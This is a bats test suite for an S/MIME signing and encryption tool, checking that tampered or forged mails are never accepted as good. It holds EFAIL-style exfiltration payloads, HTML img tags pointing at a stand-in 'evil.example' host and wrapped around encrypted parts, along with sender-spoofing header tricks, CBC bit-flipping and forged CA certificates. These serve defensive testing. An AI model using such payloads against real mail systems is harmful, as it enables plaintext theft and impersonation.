#!/usr/bin/env bats
# SPDX-License-Identifier: LGPL-2.1-or-later
# A hostile mail for every problem word, and every single change that somebody without
# the key could make to a good one: it is never good again, and says why.

load lib/common
. "$E2E_DIR/lib/mails.bash"

setup_file() {
    e2e_begin openssl jq || return 0
    ca_make "$T/ca"
    ca_leaf "$T/ca" alice p256 alice@example.org
    ca_leaf "$T/ca" eve p256 eve@example.net
    home_new main
    (umask 077 && echo 'open sesame' >"$T/password")
    printf 'Content-Type: text/plain; charset=utf-8\r\n\r\nTransfer 10.\r\n' >"$T/content"
}
teardown_file() { e2e_end; }
setup() {
    e2e_test
    home_use main
}

FROM='From: Alice <alice@example.org>\r\nSubject: s'

# beside BEFORE BEHIND: standard input's entity between two parts of a multipart/mixed.
beside() {
    printf 'Content-Type: multipart/mixed; boundary=out\r\n\r\n'
    [ -z "$1" ] || printf -- "--out\r\n$1\r\n"
    printf -- '--out\r\n' && cat
    [ -z "$2" ] || printf -- "\r\n--out\r\n$2"
    printf -- '\r\n--out--\r\n'
}

none() { [ ! -e out ] || fail "content was written"; }

@test "not all was signed: which part" {
    clear alice "$T/content" >signed
    beside 'Content-Type: text/html\r\n\r\n<p>Transfer 9999' '' <signed | mail "$FROM" >mail
    reads 3 partial-coverage --
    says '1 \(text/html\)'
    cmp out "$T/content"
    beside '' 'Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\n\r\nhi\r\n--x--' <signed |
        mail "$FROM" >mail
    reads 3 partial-coverage --
    # Behind the signature, before the first part, behind the last.
    perl -pe 's/^--b--/--b\r\nContent-Type: text\/plain\r\n\r\nthird\r\n--b--/' signed | mail "$FROM" >mail
    reads 3 partial-coverage --
    says '3'
    { cat signed; printf 'Transfer it today.\r\n'; } | mail "$FROM" >mail
    reads 3 partial-coverage --
    perl -0pe 's/\r\n\r\n--b/\r\n\r\nTransfer it today.\r\n--b/' signed | mail "$FROM" >mail
    reads 3 partial-coverage --
    for m in mail; do
        ends 3 signet verify --json --anchor "$T/ca/root.crt" --anchor "$T/ca/inter.crt" "$m"
        jq -e '.signatures[0].problems | index("partial-coverage")' <<<"$output" >/dev/null
    done
}

@test "nested messages do not inherit trust" {
    # Alice's signed mail within Eve's unsigned one, and within Eve's signed one.
    boundary=q clear alice "$T/content" | mail "$FROM" >inner
    { printf 'Content-Type: message/rfc822; forwarded=yes\r\n\r\n'; cat inner; } >wrapped
    mail 'From: eve@example.net' <wrapped >mail
    reads 0 unsigned --
    clear eve wrapped | mail 'From: eve@example.net' >mail
    reads 0 good --
    ends 0 signet read --json --anchor "$T/ca/root.crt" --anchor "$T/ca/inter.crt" mail
    [ "$(jq -r '[.signatures[].signer.emails[]] | join(" ")' <<<"$output")" = eve@example.net ]
    # Eve's message whose inner mail is Alice's, passed off as the mail itself.
    sed 's/; forwarded=yes//' wrapped >asis
    clear eve asis | mail 'From: eve@example.net' >mail
    reads 3 address-mismatch header-mismatch --
    # A part that is signed by itself, in what Eve signed.
    { printf 'Content-Type: multipart/mixed; boundary=n\r\n\r\n--n\r\n\r\nMine.\r\n--n\r\n'
      boundary=q clear alice "$T/content"; printf -- '\r\n--n--\r\n'; } >parts
    clear eve parts | mail 'From: eve@example.net' >mail
    reads 0 good nested-part --
    clear eve parts | mail "$FROM" >mail
    reads 3 address-mismatch nested-part --
}

@test "exfiltration: parts beside what is encrypted yield nothing" {
    sealed "$T/content" >enc
    for around in 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?' \
        'Content-Type: text/plain\r\n\r\nlook' 'Content-Type: image/png\r\n\r\nx'; do
        for cipher in cbc gcm; do
            sealed "$T/content" $cipher >enc
            beside "$around" 'Content-Type: text/html\r\n\r\n">' <enc | mail "$FROM" >mail
            reads 1 exposed-encryption --
            none
            reads 1 exposed-encryption -- --anyway
            none
            reads 1 exposed-encryption -- --text --anyway
            none
            ends 5 signet decrypt --password-file "$T/password" -o out mail
            says 'not all of it is encrypted.*text/html'
            none
            beside '' "$around" <enc | mail "$FROM" >mail
            reads 1 exposed-encryption --
            none
        done
    done
    # The same around a signature that holds what is encrypted.
    clear eve enc >signed
    beside 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?' '' <signed |
        mail 'From: eve@example.net' >mail
    reads 1 exposed-encryption partial-coverage -- --anyway
    none
    # Inside of what Eve signed it is only a part, and stays closed.
    beside 'Content-Type: text/html\r\n\r\n<img src="' '' <enc >parts
    clear eve parts | mail 'From: eve@example.net' >mail
    reads 0 good nested-part --
    run ! grep -q 'Transfer 10' out
    # Text around it is named, and not shown.
    printf 'Content-Type: multipart/mixed; boundary=out\r\n\r\nPay at once.\r\n--out\r\n' >around
    { cat around enc; printf -- '\r\n--out--\r\n'; } | mail "$FROM" >mail
    reads 3 partial-encryption --
    cmp out "$T/content"
}

@test "what was decrypted without authentication is one whole entity, or nothing" {
    for broken in 'no header at all\r\n' 'Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nopen\r\n' \
        'Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nx' \
        'Content-Type: text/plain\r\ngarbage\r\n\r\nx' 'Content-Type: multipart/mixed\r\n\r\nx' \
        'Content-Type: text/plain\r\nX: \0\r\n\r\nx'; do
        printf "$broken" >broken
        sealed broken | mail "$FROM" >mail
        reads 5 malformed-content --
        none
        reads 5 malformed-content -- --anyway
        none
        sealed broken gcm | mail "$FROM" >mail
        reads 0 unsigned --
        cmp out broken
    done
    sealed "$T/content" | mail "$FROM" >mail
    reads 0 unsigned unauthenticated-encryption --
    reads 3 authentication-required -- --require-authenticated
    none
    reads 3 authentication-required -- --require-authenticated --anyway
    none
    reads 3 authentication-required -- --require-authenticated --text
    none
}

@test "every byte of a CBC message: nothing is shown that was cut or turned" {
    sealed "$T/content" | mail "$FROM" >good
    openssl cms -cmsout -in good -inform SMIME -outform DER -out der
    size=$(stat -c %s der)
    for at in $(seq $((size - 96)) 16 $((size - 1))); do
        cp der flipped
        mail_pl flip flipped "$at"
        opaque_entity flipped | mail "$FROM" >mail
        rm -f out
        run signet read --password-file "$T/password" -o out mail
        [ ! -e out ] || ! cmp -s out "$T/content" || fail "byte $at"
        [ "$status" -ne 0 ] || grep -q unauthenticated <<<"$output" || fail "byte $at: $output"
    done
}

@test "contradictions, no signers, two contents, foreign content" {
    # Two signers, of whom one signed another content.
    printf 'Content-Type: text/plain\r\n\r\nOther.\r\n' >other
    signed_part alice other a.der -nodetach
    openssl cms -resign -in a.der -inform DER -signer "$T/ca/eve.crt" -inkey "$T/ca/eve.key" \
        -outform DER -out two.der -binary 2>/dev/null || skip "this openssl cannot add a signer"
    opaque_entity two.der | mail "$FROM" >mail
    reads 3 address-mismatch --
    # Turn a bit of the last signature.
    mail_pl flip two.der $(($(stat -c %s two.der) - 1))
    opaque_entity two.der | mail "$FROM" >mail
    reads 1 contradictory-signatures bad-signature --
    none
    openssl crl2pkcs7 -nocrl -certfile "$T/ca/chain.pem" -outform DER -out p7c.der
    clear_entity "$T/content" p7c.der | mail "$FROM" >mail
    reads 1 no-signers --
    none
    ends 1 signet verify mail
    says no-signers
    signed_part alice "$T/content" o.der -nodetach
    clear_entity "$T/content" o.der | mail "$FROM" >mail
    reads 5 two-contents --
    none
    ends 5 signet verify --json mail
    jq -e '.problems[0].word == "two-contents"' <<<"$output" >/dev/null
    signed_part alice "$T/content" stamp.der -econtent_type 1.2.840.113549.1.9.16.1.4
    clear_entity "$T/content" stamp.der | mail "$FROM" >mail
    reads 5 foreign-content --
    none
    ends 5 signet verify --json mail
    jq -e '.problems[0].word == "foreign-content"' <<<"$output" >/dev/null
    mail "$FROM" <"$T/content" >mail
    ends 5 signet verify --json mail
    jq -e '.problems[0].word == "not-signed"' <<<"$output" >/dev/null
    sealed "$T/content" | mail "$FROM" >mail
    ends 5 signet verify mail
    says 'encrypted.*signet read'
}

@test "certificates taken out, or put beside" {
    openssl cms -sign -in "$T/content" -signer "$T/ca/alice.crt" -inkey "$T/ca/alice.key" \
        -nocerts -binary -outform DER -out bare.der
    clear_entity "$T/content" bare.der | mail "$FROM" >mail
    reads 1 no-certificate --
    says 'certificate is not in the message'
    # Of the same name and number, and even of the same key: the true one is found.
    serial=0x$(openssl x509 -in "$T/ca/alice.crt" -noout -serial | cut -d= -f2)
    openssl req -x509 -new -config "$T/ca/ext.cnf" -key "$T/ca/eve.key" -days 3 \
        -subj "$(openssl x509 -in "$T/ca/inter.crt" -noout -subject -nameopt compat | sed 's/subject=//')" \
        -out fake-ca.crt -extensions root
    openssl x509 -new -force_pubkey <(openssl pkey -in "$T/ca/alice.key" -pubout) -subj /CN=alice \
        -CA fake-ca.crt -CAkey "$T/ca/eve.key" -set_serial "$serial" -days 3 -out same.crt \
        -extfile "$T/ca/ext.cnf" -extensions leaf
    openssl x509 -new -force_pubkey <(openssl pkey -in "$T/ca/eve.key" -pubout) -subj /CN=alice \
        -CA fake-ca.crt -CAkey "$T/ca/eve.key" -set_serial "$serial" -days 3 -out other.crt \
        -extfile "$T/ca/ext.cnf" -extensions leaf
    cat same.crt other.crt "$T/ca/inter.crt" >many.pem
    openssl cms -sign -in "$T/content" -signer "$T/ca/alice.crt" -inkey "$T/ca/alice.key" \
        -certfile many.pem -binary -outform DER -out many.der
    clear_entity "$T/content" many.der | mail "$FROM" >mail
    reads 0 good --
}

# one NAME PERL: the change, made to the file `whole`; never good.
one() {
    perl -0pe "$2" whole >mail
    cmp -s whole mail && fail "$1 changes nothing"
    rm -f out
    run --separate-stderr signet read --json --anchor "$T/ca/root.crt" \
        --anchor "$T/ca/inter.crt" --password-file "$T/password" -o out mail
    [ "$(jq -r .status <<<"$output")" != good ] || fail "$1 is good" "$output"
    [ "$status" -ne 0 ] || [ "$(jq -r .status <<<"$output")" = unsigned ] || fail "$1 ends with 0"
    # It says why.
    [ "$status" -eq 0 ] || jq -e '.reason or .problems != [] or
        ([.layers[].problems[], .layers[].signatures[].problems[]] != [])' <<<"$output" >/dev/null ||
        fail "$1 is not explained" "$output"
    # And verify, for which unsigned is no success.
    rm -f out
    run signet verify --anchor "$T/ca/root.crt" --anchor "$T/ca/inter.crt" -o out mail
    [ "$status" -ne 0 ] && [ ! -e out ] || fail "$1: verify ends with $status" "$output"
}

# kept NAME PERL: a change that alters nothing that anybody is told.
kept() {
    perl -0pe "$2" whole >mail
    cmp -s whole mail && fail "$1 changes nothing"
    reads 0 good --
    cmp out "$T/content" || fail "$1 changes the content"
}

header_changes() {
    one "From of another" 's/alice\@example.org>/eve\@example.net>/'
    one "From in another case" 's/<alice/<Alice/'
    one "From twice" 's/^/From: eve\@example.net\r\n/'
    one "From twice, the second" 's/\r\nSubject/\r\nFrom: eve\@example.net\r\nSubject/'
    one "From twice, spelled otherwise" 's/\r\nSubject/\r\nFROM : eve\@example.net\r\nSubject/'
    one "From with two" 's/org>/org>, eve\@example.net/'
    one "From of nobody" 's/From: [^\r]*/From: /'
    one "From folded to nothing" 's/From: [^\r]*/From:\r\n /'
    one "From as a group" 's/From: [^\r]*/From: us: alice\@example.org;/'
    one "a name that is an address" 's/Alice </"boss\@example.com" </'
    one "an encoded name that is an address" 's/Alice </=?utf-8?q?boss=40example.com?= </'
    one "a comment that is an address" 's/org>/org> (boss\@example.com)/'
    one "an address behind" 's/org>/org> eve\@example.net/'
    one "a route" 's/<alice/<\@evil.example:alice/'
    one "a NUL in the header" 's/Subject: s/Subject: s\0/'
    one "a bare CR in the header" 's/Subject: s/Subject: s\rFrom: eve\@example.net/'
    one "a line that is no field" 's/\r\nSubject/\r\nwords\r\nSubject/'
    one "Sender twice" 's/^/Sender: a\@b\r\nSender: c\@d\r\n/'
    one "Sender empty" 's/^/Sender:\r\n/'
    one "a second Content-Type" 's/\r\nMIME/\r\nContent-Type: text\/html\r\nMIME/'
    one "an empty line into the header" 's/\r\nMIME/\r\n\r\nMIME/'
    one "another type" 's/Content-Type: (multipart\/signed|application\/pkcs7-mime)/Content-Type: text\/html/'
    one "no type" 's/Content-Type: (multipart\/signed|application\/pkcs7-mime)/X: $1/'
}

@test "a clear-signed mail after each single change" {
    clear alice "$T/content" | mail "$FROM" >whole
    cp whole mail
    reads 0 good --
    header_changes
    one "a word of the text" 's/Transfer 10/Transfer 90/'
    one "a blank at a line's end" 's/10\.\r/10. \r/'
    one "a line more" 's/10\.\r\n/10.\r\n\r\n/'
    one "a line less" 's/10\.\r\n/10./'
    one "the part's header" 's/charset=utf-8/charset=utf-7/'
    one "a header field of the part" 's/--b\r\nContent-Type: text/--b\r\nContent-Description: x\r\nContent-Type: text/'
    one "the part's encoding named" 's/utf-8\r\n\r\n/utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n/'
    one "the part encoded" 's/utf-8\r\n\r\nTransfer 10\.\r\n/utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\nVHJhbnNmZXIgMTAuDQo=\r\n/'
    one "a part before" 's/\r\n\r\n--b\r\n/\r\n\r\n--b\r\n\r\nFirst.\r\n--b\r\n/'
    one "a part between" 's/\r\n--b\r\nContent-Type: appl/\r\n--b\r\n\r\nMore.\r\n--b\r\nContent-Type: appl/'
    one "a part behind" 's/--b--/--b\r\n\r\nMore.\r\n--b--/'
    one "the parts exchanged" 's/--b\r\n(Content-Type: text.*?)\r\n--b\r\n(Content-Type: appl.*?)--b--/--b\r\n$2\r\n--b\r\n$1\r\n--b--/s'
    one "a preamble" 's/\r\n\r\n--b\r\n/\r\n\r\nRead this first\r\n--b\r\n/'
    one "an epilogue" 's/--b--\r\n/--b--\r\nRead this last\r\n/'
    one "another boundary" 's/boundary=b/boundary=c/'
    one "no boundary" 's/boundary=b/x=b/'
    one "two boundaries" 's/boundary=b/boundary=b; boundary=c/'
    one "the boundary in the text" 's/Transfer/Pay\r\n--b\r\n\r\nTransfer/'
    one "closed in the text" 's/Transfer/Pay\r\n--b--\r\nTransfer/'
    one "the signature of nothing" 's/(base64\r\n\r\n).*?\r\n--b--/$1\r\n--b--/s'
    one "no signature part" 's/--b\r\nContent-Type: appl.*/--b--\r\n/s'
    one "the signature's type" 's/application\/pkcs7-signature; name=smime.p7s/text\/plain/'
    one "the signature's encoding" 's/Content-Transfer-Encoding: base64/Content-Transfer-Encoding: quoted-printable/'
    one "the protocol of another" 's/protocol="application\/pkcs7-signature"/protocol="application\/pgp-signature"/'
    one "the multipart of another" 's/multipart\/signed/multipart\/mixed/'
    one "encoded as a whole" 's/(MIME-Version: 1.0\r\n)(Content-Type: multipart.*?\r\n\r\n)(.*)/use MIME::Base64; $1.$2=~s{\r\n\r\n\z}{\r\nContent-Transfer-Encoding: base64\r\n\r\n}r.encode_base64($3)/se'
    one "wrapped beside a part" 's/(MIME-Version: 1.0\r\n)(.*)/$1Content-Type: multipart\/mixed; boundary=w\r\n\r\n--w\r\n\r\nHi\r\n--w\r\n$2\r\n--w--\r\n/s'
    one "wrapped as a message" 's/(MIME-Version: 1.0\r\n)(.*)/$1Content-Type: message\/rfc822\r\n\r\n$2/s'
    for micalg in md5 sha-1 sha-512 unknown; do
        kept "micalg" "s/micalg=sha-256/micalg=$micalg/"
    done
    kept "a transport field" 's/^/Received: from x by y\r\n/'
    kept "another Subject, which nobody signed" 's/Subject: s/Subject: t/'
}

@test "an opaque mail after each single change" {
    opaque alice "$T/content" | mail "$FROM" >whole
    cp whole mail
    reads 0 good --
    header_changes
    one "the encoding" 's/Content-Transfer-Encoding: base64/Content-Transfer-Encoding: quoted-printable/'
    one "two encodings" 's/(Content-Transfer-Encoding: base64)/$1\r\nContent-Transfer-Encoding: 7bit/'
    one "cut" 's/.{200}\z//s'
    one "text behind" 's/\z/--\r\nMailing list footer\r\n/'
    one "garbage within" 's/(\r\n\r\n.{100})/$1*/s'
    one "a line taken out" 's/(\r\n\r\n[^\r]*\r\n[^\r]*\r\n)[^\r]*\r\n/$1/'
    one "wrapped beside a part" 's/(MIME-Version: 1.0\r\n)(.*)/$1Content-Type: multipart\/mixed; boundary=w\r\n\r\n--w\r\n\r\nHi\r\n--w\r\n$2\r\n--w--\r\n/s'
    kept "another smime-type" 's/name=smime.p7m/smime-type=enveloped-data/'
    kept "a transport field" 's/^/Received: from x by y\r\n/'
}

@test "a protected header after each single change outside" {
    printf 'Content-Type: text/plain; hp=clear\r\nFrom: Alice <alice@example.org>\r\nTo: b@c\r\nSubject: s\r\nDate: Mon, 23 Nov 2026 12:00:00 +0000\r\nMessage-ID: <1@x>\r\n\r\nText.\r\n' >hp
    for form in clear opaque; do
        $form alice hp | mail "$FROM"'\r\nTo: b@c\r\nDate: Mon, 23 Nov 2026 12:00:00 +0000\r\nMessage-ID: <1@x>' >whole
        cp whole mail
        reads 0 good --
        header_changes
        one "Subject" 's/Subject: s/Subject: t/'
        one "a second Subject" 's/Subject: s/Subject: s\r\nSubject: s/'
        one "To" 's/To: b\@c/To: d\@e/'
        one "Cc" 's/To: b\@c/To: b\@c\r\nCc: d\@e/'
        one "Reply-To" 's/To: b\@c/To: b\@c\r\nReply-To: eve\@example.net/'
        one "Date" 's/Mon, 23 Nov/Tue, 24 Nov/'
        one "Message-ID" 's/<1\@x>/<2\@x>/'
    done
}
